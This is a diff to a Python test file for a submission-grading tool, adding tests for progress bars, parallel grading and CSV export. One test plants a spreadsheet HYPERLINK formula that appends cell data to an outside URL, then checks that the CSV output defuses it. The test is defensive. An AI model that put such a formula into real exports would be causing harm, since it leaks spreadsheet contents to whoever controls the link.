@@ -241,19 +241,64 @@ def test_cli_html_into_a_folder(capsys, cohort_dir, tmp_path):
 def test_progress_bar_only_on_a_terminal(monkeypatch):
     import io
 
-    from powermap_kit.cli import score
+    from powermap_kit.grading import batch
 
     class Terminal(io.StringIO):
         def isatty(self):
             return True
 
     monkeypatch.setattr("sys.stderr", io.StringIO())
-    assert isinstance(score._bar(1000), score._NoBar)
+    assert isinstance(batch.progress_bar(1000), batch._NoBar)
     monkeypatch.setattr("sys.stderr", Terminal())
-    bar = score._bar(1000)
-    assert not isinstance(bar, score._NoBar)
+    bar = batch.progress_bar(1000)
+    assert not isinstance(bar, batch._NoBar)
     bar.close()
-    assert isinstance(score._bar(3), score._NoBar)        # short runs: no bar
+    assert isinstance(batch.progress_bar(3), batch._NoBar)        # short runs: no bar
+
+
+def test_one_bar_counts_every_submission(monkeypatch, cohort_dir):
+    import io
+
+    from powermap_kit.grading import grade_many, submission_files
+
+    err = io.StringIO()
+    monkeypatch.setattr("sys.stderr", err)
+    files = submission_files(cohort_dir) * 20
+    from tqdm import tqdm
+
+    seen = []
+    real = tqdm.update
+
+    def update(self, n=1):
+        seen.append(n)
+        return real(self, n)
+
+    monkeypatch.setattr(tqdm, "update", update)
+    results = grade_many(files, KEY, progress=True, jobs=2)
+    assert len(results) == len(files) and sum(seen) == len(files)
+
+
+def test_cohort_in_worker_processes_matches_one_process(cohort_dir):
+    from powermap_kit.grading import cohort_summary
+
+    files = [*sorted(cohort_dir.glob("*.json"))] * 3
+    serial = grade_cohort(files, KEY, jobs=1)
+    parallel = grade_cohort(files, KEY, jobs=2)
+    assert serial.equals(parallel)
+    a, b = cohort_summary(serial), cohort_summary(parallel)
+    assert a.to_dict() == b.to_dict() and a.missed_roles.equals(b.missed_roles)
+    # results from the workers still refer to the one key and render in either language
+    results = parallel.attrs["grading"]
+    good = next(r for r in results if r.ok)
+    assert good.key is results.key and good.lines("zh") == serial.attrs["grading"][0].lines("zh")
+
+
+def test_cli_csv_keeps_user_text_from_becoming_a_formula(capsys, tmp_path):
+    data = json.loads((FIXTURES / "grading_good.json").read_text("utf-8"))
+    data.setdefault("meta", {})["author"] = '=HYPERLINK("http://x?"&A1,"x")'
+    (tmp_path / "evil.json").write_text(json.dumps(data, ensure_ascii=False), "utf-8")
+    code, out, _ = run(capsys, "score", "--key", str(KEY), str(tmp_path), "--format", "csv")
+    assert code == 0 and "\n\"'=HYPERLINK(" in out and "\n=HYPERLINK" not in out
 
 
 def test_coach_comment_files_are_not_submissions(tmp_path):
